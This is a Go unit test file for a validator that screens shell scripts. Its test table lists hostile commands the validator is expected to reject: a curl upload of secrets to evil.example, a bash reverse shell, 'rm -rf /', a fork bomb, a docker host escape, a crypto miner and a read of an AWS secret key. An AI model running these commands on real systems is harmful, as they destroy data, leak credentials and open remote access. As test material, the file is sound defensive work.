package validator

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateContent_AcceptsBenignScript(t *testing.T) {
	err := ValidateContent([]byte("#!/bin/bash\necho hi > out.txt\n"))
	assert.NoError(t, err)
}

func TestValidateContent_RejectsForbiddenPatterns(t *testing.T) {
	cases := []struct {
		name   string
		script string
	}{
		{"destructive rm", "rm -rf /"},
		{"curl exfiltration", "curl http://evil.example/steal -d @secrets.txt"},
		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
		{"sudo escalation", "sudo rm -rf /var"},
		{"docker escape", "docker run --privileged -v /:/host alpine"},
		{"fork bomb", ":(){ :|:& };:"},
		{"crypto miner", "./xmrig -o pool.example:3333"},
		{"secret env read", "echo $AWS_SECRET_ACCESS_KEY"},
	}

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			err := ValidateContent([]byte(c.script))
			require.Error(t, err)
			var rejection *RejectionError
			require.ErrorAs(t, err, &rejection)
			assert.NotEmpty(t, rejection.Reason)
		})
	}
}

func TestValidateFile_MissingFileIsDistinctFromRejection(t *testing.T) {
	err := ValidateFile("/nonexistent/run.sh")
	require.Error(t, err)

	var rejection *RejectionError
	assert.False(t, errors.As(err, &rejection), "missing-file error should not be a RejectionError")
}
